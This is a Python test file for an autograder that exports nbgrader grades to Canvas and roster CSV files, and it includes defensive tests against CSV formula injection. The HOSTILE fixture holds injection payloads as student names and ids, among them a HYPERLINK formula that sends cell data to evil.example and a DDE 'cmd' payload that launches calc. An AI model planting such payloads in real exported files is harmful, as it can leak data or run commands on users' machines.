"""Grades to the LMS (autograder/admin/export.py): a small class put straight into nbgrader's
gradebook (nothing is graded), exported for Canvas and as a roster by our command line, and by
stock `nbgrader export` with the same plugins, which must write the same files.

The gradebook lists the assignments out of course order (nbgrader orders them by due date,
none first: only 01 has one) and holds 03, which nobody submitted. The class: ada submitted
both notebooks at full marks, 02 late (nbgrader's penalty of 1 point)
and flagged as needing a manual grade;
alan submitted 01 at full marks but a grader overrode one exercise in the formgrader
(manual_score); grace submitted nothing.
"""
import csv
import os
import pathlib
import subprocess
import sys
import warnings

import pytest

from autograder import PROJECT
from autograder.__main__ import main
from autograder.admin.course import copy_course, gradebook

CONV, POOL, BACKPROP = "01-convolution", "02-pooling", "03-backprop"
LATE_PENALTY = 1.0
OVERRIDE = 0.5
SUBMITTED_AT = "2025-03-01 10:00:00 UTC"


def grades(submission):
    return [grade for notebook in submission.notebooks for grade in notebook.grades]


@pytest.fixture(scope="module")
def course(tmp_path_factory):
    """(course root, each assignment's maximum, the final score of each submission)."""
    root = copy_course(tmp_path_factory.mktemp("export") / "course", release=(CONV, POOL))
    with warnings.catch_warnings(), gradebook(root) as book:
        warnings.simplefilter("ignore")      # nbgrader's add_submission warns on lazy loads
        book.update_or_create_assignment(BACKPROP)          # in the gradebook, submitted by no one
        book.update_or_create_assignment(CONV, duedate="2025-02-28 17:00:00 UTC")
        assert [a.name for a in book.assignments] == [POOL, BACKPROP, CONV]
        book.update_or_create_student("ada", first_name="Ada", last_name="Lovelace", email="ada@example.edu",
                                      lms_user_id="1001")
        book.update_or_create_student("alan", first_name="Alan", last_name="Turing")
        book.update_or_create_student("grace", first_name="Grace", last_name="Hopper")
        for student, assignment in [("ada", CONV), ("ada", POOL), ("alan", CONV)]:
            for grade in grades(book.add_submission(assignment, student, timestamp=SUBMITTED_AT)):
                grade.auto_score, grade.needs_manual_grade = grade.max_score, False
        grades(book.find_submission(POOL, "ada"))[0].needs_manual_grade = True     # flagged by grade
        overridden = grades(book.find_submission(CONV, "alan"))[0]
        overridden.manual_score = OVERRIDE
        book.find_submission(POOL, "ada").notebooks[0].late_submission_penalty = LATE_PENALTY
        book.db.commit()
        maxima = {a.name: a.max_score for a in book.assignments}
        final = {("ada", CONV): maxima[CONV], ("ada", POOL): maxima[POOL] - LATE_PENALTY,
                 ("alan", CONV): maxima[CONV] - overridden.max_score + OVERRIDE}
    assert final[("alan", CONV)] != maxima[CONV]         # the override changes the score
    return root, maxima, final


def fmt(value):
    return f"{value:g}"


def read(path):
    with open(path, newline="") as f:
        return list(csv.reader(f))


def export(root, *options):
    return main(["--course", str(root), "export", *options])


def test_the_canvas_csv_has_canvas_columns_points_possible_and_final_scores(course, tmp_path, capsys):
    root, maxima, final = course
    out = tmp_path / "canvas.csv"
    assert export(root, "--format", "canvas", "--out", str(out)) == 0
    assert f"wrote {out.resolve()}" in capsys.readouterr().out
    header, points, *students = read(out)
    assert header == ["Student", "ID", "SIS User ID", "SIS Login ID", "Section", CONV, POOL]
    assert points == ["    Points Possible", "", "", "", "", fmt(maxima[CONV]), fmt(maxima[POOL])]
    assert students == [
        ["Hopper, Grace", "", "", "grace", "", "", ""],       # nothing submitted: empty, not 0
        ["Lovelace, Ada", "1001", "", "ada", "", fmt(final[("ada", CONV)]), fmt(final[("ada", POOL)])],
        ["Turing, Alan", "", "", "alan", "", fmt(final[("alan", CONV)]), ""],
    ]


def test_the_roster_has_a_row_per_student_and_assignment(course, capsys):
    root, maxima, final = course
    assert export(root, "--format", "roster") == 0
    path = root / "reports" / "roster.csv"                # the default
    assert f"wrote {path}" in capsys.readouterr().out
    header, *rows = read(path)
    assert header == ["student_id", "first_name", "last_name", "email", "assignment", "raw_score", "max_score",
                      "late_penalty", "score_after_penalty", "submitted", "timestamp", "needs_manual_grade"]
    table = {(row[0], row[4]): row for row in rows}
    assert [key for key in table] == [(s, a) for s in ("grace", "ada", "alan") for a in (CONV, POOL, BACKPROP)]
    when = "2025-03-01T10:00:00+00:00"
    assert table[("ada", POOL)] == ["ada", "Ada", "Lovelace", "ada@example.edu", POOL, fmt(maxima[POOL]),
                                    fmt(maxima[POOL]), fmt(LATE_PENALTY), fmt(final[("ada", POOL)]), "yes", when,
                                    "yes"]
    assert table[("alan", CONV)] == ["alan", "Alan", "Turing", "", CONV, fmt(final[("alan", CONV)]),
                                     fmt(maxima[CONV]), "0", fmt(final[("alan", CONV)]), "yes", when, "no"]
    for key in [("alan", POOL), ("grace", CONV), ("grace", POOL), ("ada", BACKPROP)]:
        assert table[key][5:] == ["", fmt(maxima[key[1]]), "", "", "no", "", ""], key


def test_only_the_chosen_assignments_and_students_and_no_unknown_one(course, tmp_path, capsys):
    root, maxima, final = course
    out = tmp_path / "pool.csv"
    assert export(root, "--format", "canvas", "--out", str(out), "--assignment", POOL, "--student", "ada") == 0
    assert read(out) == [["Student", "ID", "SIS User ID", "SIS Login ID", "Section", POOL],
                         ["    Points Possible", "", "", "", "", fmt(maxima[POOL])],
                         ["Lovelace, Ada", "1001", "", "ada", "", fmt(final[("ada", POOL)])]]
    capsys.readouterr()
    assert export(root, "--format", "canvas", "--out", str(out), "--assignment", BACKPROP, "--assignment", CONV) == 0
    assert [row[5:] for row in read(out)[:2]] == [[CONV, BACKPROP], [fmt(maxima[CONV]), "0"]]   # named: written
    typo = tmp_path / "typo.csv"
    assert export(root, "--format", "roster", "--out", str(typo), "--assignment", "02-polling") == 2
    assert "not in the gradebook: 02-polling" in capsys.readouterr().err and not typo.exists()


def nbgrader_export(root, plugin, *options):
    """Stock `nbgrader export` with one of our plugins, run in the course folder."""
    bin_dir = pathlib.Path(sys.executable).parent
    env = dict(os.environ, PYTHONPATH=str(PROJECT), PATH=f"{bin_dir}{os.pathsep}{os.environ['PATH']}")
    done = subprocess.run([str(bin_dir / "nbgrader"), "export", f"--exporter=autograder.admin.export.{plugin}",
                           *options], cwd=root, env=env, capture_output=True, text=True)
    assert done.returncode == 0, done.stderr


def test_nbgrader_export_writes_what_our_command_line_writes(course, tmp_path):
    root, _, _ = course
    (root / "reports" / "canvas.csv").unlink(missing_ok=True)
    nbgrader_export(root, "CanvasExportPlugin")         # to reports/canvas.csv, our default too
    assert export(root, "--format", "canvas", "--out", str(tmp_path / "canvas.csv")) == 0
    assert (root / "reports" / "canvas.csv").read_bytes() == (tmp_path / "canvas.csv").read_bytes()

    only = ["--assignment", CONV, "--student", "alan", "--student", "grace"]
    nbgrader_export(root, "RosterExportPlugin", "--to", str(tmp_path / "nbgrader-roster.csv"), *only)
    assert export(root, "--format", "roster", "--out", str(tmp_path / "roster.csv"), *only) == 0
    roster = (tmp_path / "roster.csv").read_bytes()
    assert (tmp_path / "nbgrader-roster.csv").read_bytes() == roster and len(read(tmp_path / "roster.csv")) == 3


# OWASP's CSV injection: a cell starting with one of these is read as a formula.
FORMULA = ("=", "+", "-", "@", "\t", "\r")
HOSTILE = {'=HYPERLINK("http:" & "evil.example?" & A1, "open")': ("=1+1", "-2", "@evil.example"),
           "+1+cmd|' -C calc'!A0": ("+x", "\t=1", "\r=2"),
           "-2+3": ("", "", ""), "@SUM(1+1)": ("", "", ""), "\t=1+1": ("", "", ""), "\r=1+1": ("", "", "")}


@pytest.fixture(scope="module")
def hostile_course(tmp_path_factory):
    """A course whose students' ids, names and emails start with what a spreadsheet runs,
    each with a submission of 01-convolution at full marks but one without."""
    root = copy_course(tmp_path_factory.mktemp("export-hostile") / "course", release=(CONV,))
    with warnings.catch_warnings(), gradebook(root) as book:
        warnings.simplefilter("ignore")
        for number, (student, (first, last, email)) in enumerate(HOSTILE.items()):
            book.update_or_create_student(student, first_name=first or None, last_name=last or None,
                                          email=email or None, lms_user_id=f"-{number}" if number else None)
            if number:
                for grade in grades(book.add_submission(CONV, student, timestamp=SUBMITTED_AT)):
                    grade.auto_score = grade.max_score
        book.db.commit()
    return root


def shown(cell):
    """A cell as a spreadsheet shows it: a leading single quote marks text and is not shown."""
    return cell[1:] if cell.startswith("'") else cell


@pytest.mark.parametrize("format, id_column, texts", [
    ("canvas", 3, {"-2, =1+1", "\t=1, +x", "-1"}),                  # "Last, First" and the lms_user_id
    ("roster", 0, {"=1+1", "-2", "@evil.example", "+x", "\t=1", "\r=2"})])
def test_no_exported_cell_starts_with_a_formula_and_the_ids_are_still_there(hostile_course, tmp_path, format,
                                                                            id_column, texts):
    out = tmp_path / f"{format}.csv"
    assert export(hostile_course, "--format", format, "--out", str(out)) == 0
    rows = read(out)
    assert not [cell for row in rows for cell in row if cell.startswith(FORMULA)]
    students = rows[2:] if format == "canvas" else rows[1:]
    assert {shown(row[id_column]) for row in students} == set(HOSTILE)
    names = {shown(cell) for row in students for cell in row}
    assert texts <= names
    scores = [row[5] for row in students if row[5]] if format == "canvas" else [row[8] for row in students if row[8]]
    assert len(scores) == len(HOSTILE) - 1 and all(float(score) > 0 for score in scores)   # numbers stay numbers
